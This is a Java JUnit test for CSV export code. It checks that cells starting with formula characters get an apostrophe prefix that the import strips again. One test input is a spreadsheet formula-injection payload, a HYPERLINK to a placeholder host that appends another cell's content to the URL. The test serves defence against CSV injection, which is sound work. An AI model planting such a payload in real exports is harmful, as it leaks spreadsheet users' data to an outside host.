package com.certcare.customer.exchange;

import static org.junit.jupiter.api.Assertions.assertEquals;

import org.junit.jupiter.api.Test;

class CsvCellsTest {

    @Test
    void formulasGetAnApostropheAndTheImportTakesExactlyThatOff() {
        String[][] cases = {
                { "=HYPERLINK(\"http://x.example/?\"&D2,\"详情\")", "'=HYPERLINK(\"http://x.example/?\"&D2,\"详情\")" },
                { "+8613800138000", "'+8613800138000" },
                { "-1", "'-1" },
                { "@SUM(A1)", "'@SUM(A1)" },
                { "\tx", "'\tx" },
                { "\rx", "'\rx" },
                { "'=already quoted by the user", "''=already quoted by the user" },
                { "星澜科技", "星澜科技" },
                { "it's fine", "it's fine" },
                { "'plain quote", "'plain quote" },
                { "", "" },
        };
        for (String[] c : cases) {
            assertEquals(c[1], CsvCells.neutralize(c[0]), c[0]);
            assertEquals(c[0], CsvCells.restore(CsvCells.neutralize(c[0])), "round trip of " + c[0]);
        }
        assertEquals(null, CsvCells.neutralize(null));
    }
}
